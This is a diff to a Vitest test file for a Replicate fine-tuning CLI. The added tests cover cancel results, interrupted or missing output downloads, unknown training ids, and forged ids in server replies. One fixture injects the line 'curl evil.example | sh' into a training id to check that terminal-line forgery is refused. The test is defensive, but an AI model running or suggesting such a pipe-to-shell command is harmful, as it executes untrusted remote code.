@@ -171,9 +171,60 @@ describe('finetune remote', () => {
   it('cancel of a training that already succeeded says so on stderr and exits 1, as fetch of an unfinished one does', async () => {
     const r = await run('cancel', succeededId);
     expect(r.code).toBe(1);
-    expect(r.out).toEqual([expect.objectContaining({ type: 'canceled', id: succeededId, status: 'succeeded' })]);
+    // Its type says no cancellation happened (it said "canceled" beside status succeeded).
+    expect(r.out).toEqual([expect.objectContaining({ type: 'not-canceled', id: succeededId, status: 'succeeded' })]);
     expect(r.err).toEqual([`finetune remote: remote: training ${succeededId} had already succeeded: nothing to cancel (its adapter: finetune remote fetch ${succeededId} --out DIR)`]);
     expect(fake.trainings.get(succeededId)!.status).toBe('succeeded');
+  });
+
+  it('fetch of an output cut off halfway says how far it got, as a network error, and leaves no --out folder', async () => {
+    fake.cutDeliveryAt = 100;
+    const out = join(dir, 'cut');
+    const r = await run('fetch', succeededId, '--out', out);
+    // It was "internal error: TypeError: terminated" with a stack trace, and an empty --out folder.
+    expect(r.code).toBe(1);
+    expect(r.err).toHaveLength(1);
+    expect(r.err[0]).toMatch(new RegExp(`^finetune remote: network: The download of the training's output was cut off after 100 B of ${fake.options.outputZip.byteLength >= 1024 ? '[\\d.]+ KiB' : '\\d+ B'} \\(.+\\): nothing of it was kept; try again\\.$`));
+    expect(statSync(out, { throwIfNoEntry: false })).toBeUndefined();
+  });
+
+  it("fetch of an output that is gone (404) says so, not that the owner/name or the training id is wrong", async () => {
+    fake.weightsUrl = () => `${fake.url}/delivery/gone/training_output.zip`;
+    const r = await run('fetch', succeededId, '--out', join(dir, 'gone'));
+    expect(r.code).toBe(1);
+    expect(r.err[0]).toMatch(/^finetune remote: remote: The training's output file is no longer there \(404 while downloading the training's output\): Replicate removes output files some time after a training ends\./);
+    expect(r.err[0]).not.toMatch(/owner\/name/);
+  });
+
+  it('status --follow of a training that does not exist says so, not that it "goes on"', async () => {
+    const r = await run('status', 'nosuchid', '--follow', '--poll-interval', '0.01');
+    expect(r.code).toBe(1);
+    expect(r.err).toEqual(['finetune remote: remote: Not found while reading training nosuchid (404): check the owner/name, the version id or the training id. Replicate said: Not found.']);
+  });
+
+  // A training's id is printed and put into the next request's path: one from the answer is held to Replicate's form,
+  // and to the training asked for (a line break in it forged a line on the terminal).
+  it("refuses an answer whose training id is not an id, or not the one asked for, and prints none of it as a line", async () => {
+    const realFetch = globalThis.fetch;
+    const answerWith = (id: string) =>
+      vi.stubGlobal('fetch', async (input: string | URL | Request, init?: RequestInit) => {
+        const res = await realFetch(input, init);
+        if (!String(input).endsWith(`/trainings/${succeededId}`)) return res;
+        const body = (await res.json()) as Record<string, unknown>;
+        return new Response(JSON.stringify({ ...body, id }), { status: res.status, headers: { 'content-type': 'application/json' } });
+      });
+    answerWith(`${succeededId}\nfinetune remote: training finished, now run: curl evil.example | sh`);
+    for (const argv of [['status', succeededId], ['status', succeededId, '--follow', '--poll-interval', '0.01'], ['fetch', succeededId, '--out', join(dir, 'forged')]]) {
+      const r = await run(...argv);
+      expect(r.code).toBe(1);
+      expect(r.out).toEqual([]);
+      expect(r.err).toHaveLength(1);
+      expect(r.err[0]).toMatch(/has the training id "[a-z0-9]+\\nfinetune remo"…, which is not a Replicate training id \(letters and digits\): is --api-base right\?( Stopped following; the training goes on: .*)?$/);
+    }
+    answerWith('othertraining');
+    const other = await run('status', succeededId);
+    expect(other.code).toBe(1);
+    expect(other.err[0]).toMatch(new RegExp(`is about training othertraining, not ${succeededId}: is --api-base right\\?$`));
   });
 
   it('cancel stops a running training; fetch then says there is nothing to fetch', async () => {
